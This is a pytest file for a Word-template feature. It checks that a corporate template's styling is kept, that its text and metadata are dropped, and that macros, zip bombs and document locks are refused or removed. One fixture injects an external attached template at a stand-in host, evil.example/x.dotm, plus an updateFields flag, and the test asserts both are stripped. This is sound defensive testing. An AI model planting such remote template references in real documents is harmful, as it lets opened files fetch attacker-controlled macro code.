"""A corporate template: whose paper a document is on."""

from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from typing import Any

import docx
import pytest
from docx.shared import Pt
from lxml import etree
from sample import DOCUMENT
from wordparts import W, parts_of, root_of, styles_of, text_of, value, zipped

from coursewright.press.picture import Picture
from coursewright.press.word import template as word_template
from coursewright.press.word.package import NotATemplate, controls, word
from pictures import png

PIXEL = png(1, 1)

pytest_plugins = ["word_fixtures"]


def template(change: Callable[[Any], None] = lambda opened: None) -> bytes:
    opened = docx.Document()
    change(opened)
    output = BytesIO()
    opened.save(output)
    return output.getvalue()


def corporate(opened: Any) -> None:
    opened.sections[0].header.paragraphs[0].text = "ACME"
    opened.sections[0].left_margin = Pt(36)
    opened.styles["Heading 1"].font.size = Pt(20)
    paragraph = opened.add_paragraph("internal draft")
    opened.add_comment(paragraph.runs, "do not publish", "Jo")
    opened.core_properties.author = "Jo"


def test_a_templates_look_is_kept_and_its_text_is_not() -> None:
    raw = word(DOCUMENT, template(corporate))
    opened = docx.Document(BytesIO(raw))
    section = opened.sections[0]
    assert (section.header.paragraphs[0].text, section.left_margin) == ("ACME", Pt(36))
    assert opened.styles["Heading 1"].font.size == Pt(20)
    everything = b"".join(parts_of(raw).values())
    assert not [
        word for word in (b"internal draft", b"do not publish", b"Jo", b"python-docx") if word in everything
    ]
    assert opened.core_properties.author == "园艺公司"
    assert [tag for tag, _ in controls(raw)] == [
        "company",
        *(tag for tag, _ in controls(word(DOCUMENT)) if tag != "company"),
    ]


def test_a_template_lacks_nothing_that_is_used() -> None:
    raw = word(DOCUMENT, template(corporate))
    used = {value(style) for tag in ("pStyle", "rStyle", "tblStyle") for style in root_of(raw).iter(W + tag)}
    assert used <= styles_of(raw).keys()
    for table in root_of(raw).iter(f"{W}tbl"):
        assert sum(int(value(column, "w")) for column in table.iter(f"{W}gridCol")) == 12240 - 720 - 1800


def test_a_template_without_a_head_gets_ours() -> None:
    opened = docx.Document(BytesIO(word(replace(DOCUMENT, logo=Picture("png", PIXEL, 1, 1)), template())))
    section = opened.sections[0]
    assert section.header.paragraphs[0].text.strip().endswith("G-01")
    assert section.footer.paragraphs[0].text.startswith("第")


def test_a_template_with_an_empty_head_gets_ours() -> None:
    def change(opened: Any) -> None:
        opened.sections[0].header.is_linked_to_previous = False
        opened.sections[0].different_first_page_header_footer = True
        opened.settings.odd_and_even_pages_header_footer = True

    section = docx.Document(BytesIO(word(DOCUMENT, template(change)))).sections[0]
    for header in (section.header, section.first_page_header, section.even_page_header):
        assert header.paragraphs[0].text.strip().endswith("G-01")


def test_a_head_that_the_last_section_takes_over_is_kept() -> None:
    def change(opened: Any) -> None:
        corporate(opened)
        opened.add_section()

    raw = word(DOCUMENT, template(change))
    opened = docx.Document(BytesIO(raw))
    assert len(opened.sections) == 1
    assert opened.sections[0].header.paragraphs[0].text == "ACME"


def test_styles_are_known_by_their_names_because_chinese_word_numbers_them() -> None:
    def change(opened: Any) -> None:
        opened.styles["Heading 1"].element.set(f"{W}styleId", "1")
        opened.styles["Normal"].element.set(f"{W}styleId", "a")
        opened.styles["Title"].element.set(f"{W}styleId", "Heading2")
        opened.styles["Heading 2"].delete()

    raw = word(DOCUMENT, template(change))
    used = [value(style) for style in root_of(raw).iter(f"{W}pStyle")]
    styles = styles_of(raw)
    assert value(styles[used[0]].find(f"{W}name")) == "Title"
    assert "1" in used
    assert [identity for identity in used if value(styles[identity].find(f"{W}name")) == "heading 2"] == [
        "Heading20"
    ]
    assert value(styles["Heading20"].find(f"{W}basedOn")) == "a"


def test_a_template_calls_nothing_from_outside() -> None:
    def change(opened: Any) -> None:
        part = opened.settings.element
        rels = next(rel.target_part for rel in opened.part.rels.values() if rel.reltype.endswith("/settings"))
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        key = rels.relate_to("https://evil.example/x.dotm", f"{kind}/attachedTemplate", is_external=True)
        part.insert(
            0, etree.fromstring(f'<w:attachedTemplate xmlns:w="{W[1:-1]}" xmlns:r="{kind}" r:id="{key}"/>')
        )
        part.insert(0, etree.fromstring(f'<w:updateFields xmlns:w="{W[1:-1]}" w:val="true"/>'))

    parts = parts_of(word(DOCUMENT, template(change)))
    assert not [
        name for name, content in parts.items() if b"evil.example" in content or b"updateFields" in content
    ]


def test_a_template_is_opened_once_and_gives_the_same_bytes() -> None:
    raw = template(corporate)
    assert word(DOCUMENT, raw) == word(DOCUMENT, bytes(bytearray(raw)))


def test_a_document_of_ours_can_be_the_template(raw: bytes) -> None:
    again = word(replace(DOCUMENT, head=((), "G-02")), raw)
    assert "G-01" in text_of(root_of(again, "word/header1.xml"))
    assert len(styles_of(again)) == len(styles_of(raw))


def test_macros_are_refused() -> None:
    parts = parts_of(template())
    with pytest.raises(NotATemplate):
        word(DOCUMENT, zipped({**parts, "word/vbaProject.bin": b""}))
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with pytest.raises(NotATemplate):
        word(DOCUMENT, zipped({**parts, "[Content_Types].xml": types}))


def test_a_template_that_unpacks_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(word_template, "MOST", 1000)
    with pytest.raises(NotATemplate):
        word(DOCUMENT, template(lambda opened: opened.add_paragraph("not seen before")))


def test_a_template_that_is_locked_or_in_columns_can_be_filled_in() -> None:
    def change(opened: Any) -> None:
        names = f'xmlns:w="{W[1:-1]}"'
        opened.settings.element.insert(
            0, etree.fromstring(f'<w:documentProtection {names} w:edit="readOnly" w:enforcement="1"/>')
        )
        for columns in opened.sections[0]._sectPr.findall(f"{W}cols"):
            columns.set(f"{W}num", "2")

    parts = parts_of(word(DOCUMENT, template(change)))
    assert b"documentProtection" not in parts["word/settings.xml"]
    assert b"<w:cols" not in parts["word/document.xml"]
